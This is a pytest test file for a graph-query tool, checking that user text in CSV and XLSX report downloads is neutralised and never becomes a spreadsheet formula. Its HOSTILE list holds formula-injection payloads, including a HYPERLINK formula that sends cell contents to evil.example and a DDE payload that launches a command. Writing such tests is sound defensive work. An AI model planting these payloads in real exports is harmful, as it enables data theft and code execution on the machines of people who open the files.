"""Text typed by people never becomes a spreadsheet formula in CSV or XLSX downloads."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest

from iscg_graph.render.cells import csv_safe, is_formula_like
from iscg_graph.render.tabular import ResultTable, to_csv, to_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
           "\t=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_neutralised(text: str) -> None:
    assert is_formula_like(text)
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["-3", "+1.5", "plain", "a=b", ""])
def test_numbers_and_plain_text_are_left_alone(text: str) -> None:
    assert csv_safe(text) == text


def _table() -> ResultTable:
    rows = [{"comment": {"type": "literal", "value": t}} for t in HOSTILE]
    return ResultTable.from_sparql_json(json.dumps({"head": {"vars": ["comment"]},
                                                    "results": {"bindings": rows}}))


def test_report_csv_and_xlsx_hold_no_formula() -> None:
    table = _table()
    cells = [row[0] for row in csv.reader(io.StringIO(to_csv(table, table.columns())))][1:]
    assert len(cells) == len(HOSTILE)
    assert all(c.startswith("'") for c in cells)
    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx(table, table.columns(), title="t")))
    values = [(c.value, c.data_type) for (c,) in wb["Report"].iter_rows(min_row=2, max_col=1)]
    assert [v for v, _ in values] == HOSTILE  # the text as typed
    assert all(t == "s" for _, t in values)  # stored as text, not as formulas
